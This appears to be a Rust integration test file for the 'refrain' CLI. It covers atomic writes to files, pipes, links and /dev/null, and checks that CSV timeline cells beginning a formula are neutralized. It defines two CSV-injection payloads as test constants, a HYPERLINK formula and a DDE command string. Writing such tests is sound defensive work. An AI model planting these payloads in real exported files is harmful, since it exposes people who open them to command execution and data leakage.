//! Where `refrain` writes and what it writes there: `report -o` and
//! `compare --html` to a new or existing file (atomically), to `-`, to
//! `/dev/null`, to a named pipe, through a link, and refused for a folder;
//! and the cells of `timeline --csv` made safe for spreadsheets while the
//! JSON keeps every text as it was.

use std::ffi::OsStr;
use std::os::unix::fs::{FileTypeExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::refrain;

/// A hostile title, as OWASP's CSV-injection examples write them.
const HYPERLINK: &str = r#"=HYPERLINK("http://x"&A1,"click")"#;
/// Another: a command run through DDE.
const CMD: &str = "+cmd|' /C calc'!A0";

/// Two dated speeches sharing a sentence, in a folder of their own.
fn two_speeches() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("speeches");
    std::fs::create_dir(&corpus).unwrap();
    let shared = "We shall never surrender the freedom of the seas to anyone at all.";
    std::fs::write(corpus.join("a.txt"), format!("Title: First\nDate: 1941-01-06\n\nIn January: {shared}\n")).unwrap();
    std::fs::write(corpus.join("b.txt"), format!("Title: Second\nDate: 1942-01-06\n\nAnd again: {shared}\n")).unwrap();
    (dir, corpus)
}

/// `refrain report CORPUS -o OUT`.
fn report(corpus: &Path, out: &Path) -> Output {
    refrain(&["report".as_ref(), corpus.as_os_str(), "-o".as_ref(), out.as_os_str()])
}

/// The names in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

fn is_report(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes);
    text.starts_with("<!DOCTYPE html>") && text.trim_end().ends_with("</html>") && text.contains("surrender")
}

#[test]
fn an_existing_report_is_replaced_whole_keeping_its_permissions() {
    let (dir, corpus) = two_speeches();
    let out = dir.path().join("report.html");
    std::fs::write(&out, "x".repeat(2_000_000)).unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o600)).unwrap();
    let run = report(&corpus, &out);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(is_report(&std::fs::read(&out).unwrap()));
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(names(dir.path()), ["report.html", "speeches"], "no temporary file left");
    assert!(String::from_utf8_lossy(&run.stderr).contains(&format!("wrote {}", out.display())));
}

#[test]
fn dev_null_stays_a_character_device() {
    let (_dir, corpus) = two_speeches();
    let null = Path::new("/dev/null");
    let run = report(&corpus, null);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let kind = std::fs::symlink_metadata(null).unwrap().file_type();
    assert!(kind.is_char_device(), "/dev/null is now {kind:?}");
    assert!(std::fs::metadata(null).unwrap().file_type().is_char_device());
}

#[test]
fn a_dash_is_standard_output() {
    let (_dir, corpus) = two_speeches();
    let run = report(&corpus, Path::new("-"));
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(is_report(&run.stdout));
    assert!(String::from_utf8_lossy(&run.stderr).contains("wrote standard output"));
    // `compare --revision --html -` as well.
    let (a, b) = (corpus.join("a.txt"), corpus.join("b.txt"));
    let run = refrain(&[
        "compare".as_ref(),
        "--revision".as_ref(),
        "--html".as_ref(),
        "-".as_ref(),
        a.as_os_str(),
        b.as_os_str(),
    ]);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let page = String::from_utf8_lossy(&run.stdout);
    assert!(page.starts_with("<!DOCTYPE html>") && page.contains("January"), "{page}");
}

#[test]
fn a_named_pipe_receives_the_report_and_stays_a_pipe() {
    let (dir, corpus) = two_speeches();
    let fifo = dir.path().join("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(fifo).unwrap())
    };
    let run = report(&corpus, &fifo);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(is_report(&reader.join().unwrap()));
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    assert_eq!(names(dir.path()), ["pipe", "speeches"]);
}

#[test]
fn a_folder_is_refused_by_name() {
    let (dir, corpus) = two_speeches();
    let folder = dir.path().join("reports.html");
    std::fs::create_dir(&folder).unwrap();
    let run = report(&corpus, &folder);
    assert_eq!(run.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains(&format!("{}: is a folder", folder.display())), "{stderr}");
    assert!(std::fs::metadata(&folder).unwrap().is_dir());
    assert_eq!(names(&folder), Vec::<String>::new());
    assert_eq!(names(dir.path()), ["reports.html", "speeches"]);
}

#[test]
fn a_link_stays_a_link_and_the_file_it_leads_to_gets_the_report() {
    let (dir, corpus) = two_speeches();
    let real = dir.path().join("real.html");
    std::fs::write(&real, "old").unwrap();
    let link = dir.path().join("link.html");
    std::os::unix::fs::symlink("real.html", &link).unwrap();
    let run = report(&corpus, &link);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert_eq!(std::fs::read_link(&link).unwrap(), Path::new("real.html"));
    assert!(is_report(&std::fs::read(&real).unwrap()));
    assert_eq!(names(dir.path()), ["link.html", "real.html", "speeches"]);
    // A link leading nowhere is refused and kept.
    let dangling = dir.path().join("dangling.html");
    std::os::unix::fs::symlink("gone/report.html", &dangling).unwrap();
    let run = report(&corpus, &dangling);
    assert_eq!(run.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("is a link to gone/report.html, which does not exist"), "{stderr}");
    assert_eq!(std::fs::read_link(&dangling).unwrap(), Path::new("gone/report.html"));
}

#[test]
fn timeline_csv_cells_that_begin_a_formula_are_neutralized_and_json_is_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let speech = dir.path().join("@speech.txt");
    std::fs::write(&speech, format!("Title: {HYPERLINK}\nDate: 2001-01-01\n\nA few plain words.\n")).unwrap();
    let events = dir.path().join("events.csv");
    let mut writer = csv::Writer::from_path(&events).unwrap();
    writer.write_record(["date", "title", "description", "url"]).unwrap();
    writer.write_record(["2001-02-03", CMD, HYPERLINK, "=1+1"]).unwrap();
    writer.write_record(["2001-03-04", "-1 for a plain title", "@SUM(A1:A2)", "https://example.org/"]).unwrap();
    writer.flush().unwrap();
    let args = |format: &'static str| -> Vec<&OsStr> {
        vec!["timeline".as_ref(), format.as_ref(), "--events".as_ref(), events.as_os_str(), speech.as_os_str()]
    };

    let out = refrain(&args("--csv"));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = |kind: &str, date: &str| {
        rows.iter().find(|r| &r[col("kind")] == kind && &r[col("date")] == date).unwrap_or_else(|| panic!("{rows:?}"))
    };
    let speech_row = row("speech", "2001-01-01");
    assert_eq!(&speech_row[col("title")], format!("'{HYPERLINK}"));
    assert_eq!(&speech_row[col("file")], "'@speech.txt");
    let hostile = row("event", "2001-02-03");
    assert_eq!(&hostile[col("title")], format!("'{CMD}"));
    assert_eq!(&hostile[col("detail")], format!("'{HYPERLINK}"));
    assert_eq!(&hostile[col("url")], "'=1+1");
    let plain = row("event", "2001-03-04");
    assert_eq!(&plain[col("title")], "'-1 for a plain title");
    assert_eq!(&plain[col("detail")], "'@SUM(A1:A2)");
    assert_eq!(&plain[col("url")], "https://example.org/");
    // What Refrain writes itself is as it was.
    assert_eq!((&hostile[col("lane")], &hostile[col("precision")]), ("events", "day"));

    // JSON: every text as given.
    let out = refrain(&args("--json"));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let titles: Vec<&str> = json["entries"].as_array().unwrap().iter().map(|e| e["title"].as_str().unwrap()).collect();
    assert!(titles.contains(&HYPERLINK) && titles.contains(&CMD), "{titles:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("'="), "{text}");
}
